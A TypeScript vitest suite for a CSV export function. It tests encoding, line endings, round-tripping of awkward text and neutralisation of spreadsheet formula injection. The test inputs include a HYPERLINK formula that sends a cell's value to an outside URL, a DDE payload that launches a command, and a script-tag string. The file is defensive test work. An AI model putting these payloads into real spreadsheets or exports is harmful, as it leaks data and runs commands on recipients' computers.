import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '#shared/csv.ts';

const read = (file: string) => parse(file, { bom: true, relax_column_count: false }) as string[][];
const bytes = (file: string) => [...Buffer.from(file)];

describe('T-03: an export is a file that spreadsheets open', () => {
  it('in UTF-8 that says so, each line ended as RFC 4180 wants it', () => {
    const file = formatCsv([
      ['Plate', 'Customer'],
      ['KZT482', 'Mere Tūhoe'],
    ]);
    expect(bytes(file).slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.slice(1)).toBe('Plate,Customer\r\nKZT482,Mere Tūhoe\r\n');
  });

  it.each([
    ['a comma', 'Tūhoe, Mere'],
    ['quotes', 'Mere "the boss" Tūhoe'],
    ['a new line', 'Mere\nTūhoe'],
    ['an old one', 'Mere\r\nTūhoe'],
    ['what looks like an end', '",\r\n"=1+1'],
    ['Chinese', '陈伟'],
    ['an emoji', '🚗'],
    ['nothing', ''],
    ['markup', '<script>alert(1)</script>'],
    ['a very long text', 'x'.repeat(40_000)],
  ])('%s comes back to the letter', (_, text) => {
    expect(read(formatCsv([['before', text, 'after']]))).toEqual([['before', text, 'after']]);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.nz/?x="&A1,"Click")',
    '+64215550143',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    "=cmd|' /C calc'!A0",
  ])('%j is a text and no formula', (text) => {
    const [[cell = ''] = []] = read(formatCsv([[text]]));
    expect(cell).toBe(`'${text}`);
  });

  it.each(['KZT482', "O'Brien", 'A=B', '21/11/2026', '1043', 'a-b', '陈=伟'])('%j stays as it is', (text) => {
    expect(read(formatCsv([[text]]))).toEqual([[text]]);
  });
});
